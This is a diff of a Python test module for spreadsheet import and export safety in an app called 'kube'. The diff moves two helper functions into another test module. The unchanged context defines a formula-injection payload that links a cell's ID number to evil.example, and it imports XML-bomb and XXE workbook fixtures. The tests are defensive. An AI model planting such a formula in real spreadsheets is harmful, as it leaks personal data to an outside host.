@@ -2,7 +2,6 @@
 refused as the import page's error, control characters are refused by forms and never break an export."""
 from __future__ import annotations
 
-import csv
 import io
 import zipfile
 from datetime import date, datetime
@@ -10,13 +9,13 @@ from datetime import date, datetime
 import openpyxl
 import pytest
 from openpyxl import load_workbook
-from sqlalchemy import func, select
 from wtforms import StringField, TextAreaField
 
 from kube.core.forms import KubeForm
 from kube.core.spreadsheet import csv_cell, safe_text, unescaped_text, xlsx_cell
 from kube.groups import importer
 from kube.groups.models import Group, Member
+from tests.test_import_export import member_count, read_csv as csv_rows
 from tests.workbooks import (
     WORKBOOK, billion_laughs, empty_rows_bomb, last_row_only, long_string_bomb, sheet_xml, shared_strings, xlsx, xxe_sheet,
 )
@@ -24,10 +23,6 @@ from tests.workbooks import (
 FORMULA = '=HYPERLINK("http://evil.example/?nik="&M2,"Lihat peta")'
 #: What the import page says about a workbook it cannot read.
 UNREADABLE = "Berkas XLSX tidak dapat dibaca"
-
-
-def member_count(db) -> int:
-    return db.session.scalar(select(func.count()).select_from(Member))
 
 
 def upload(client, data: bytes, name: str = "anggota.xlsx"):
@@ -57,10 +52,6 @@ def sheet_rows(data: bytes, title: str | None = None) -> list[tuple]:
 def sheet_cells(data: bytes, title: str | None = None) -> list:
     """Every cell of a sheet of an XLSX."""
     return [cell for row in sheet_rows(data, title) for cell in row]
-
-
-def csv_rows(response) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
 
 
 
